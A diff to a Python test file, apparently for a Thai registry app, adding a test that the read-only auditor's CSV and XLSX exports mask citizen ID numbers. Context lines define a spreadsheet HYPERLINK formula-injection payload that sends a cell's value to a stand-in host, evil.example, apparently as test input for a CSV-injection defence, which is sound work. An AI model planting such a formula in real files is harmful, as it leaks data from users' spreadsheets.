@@ -316,6 +316,18 @@ def test_citizen_ids_are_decrypted_with_dashes(personas, registry):
     assert citizen_id.formatted(volunteer.read_citizen_id()) in {row[column] for row in rows[1:]}
 
 
+@pytest.mark.parametrize(("dataset", "fmt"), [("households", "csv"), ("volunteers", "xlsx")])
+def test_the_read_only_auditor_s_file_masks_every_citizen_id(personas, registry, dataset, fmt):
+    """As on a person's page, where the auditor may not reveal one: who read, not the IDs."""
+    data = export_bytes(personas["auditor"], dataset, fmt)
+    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
+    columns = [i for i, h in enumerate(rows[0]) if h.startswith("เลขประจำตัวประชาชน")]
+    cells = [row[i] for row in rows[1:] for i in columns if row[i]]
+    assert cells and all(cell.startswith("x-xxxx-xxxxx-") for cell in cells)
+    clear = read_csv(export_bytes(personas["national_admin"], dataset))
+    assert not clear[1][clear[0].index("เลขประจำตัวประชาชน")].startswith("x-")
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
 
 
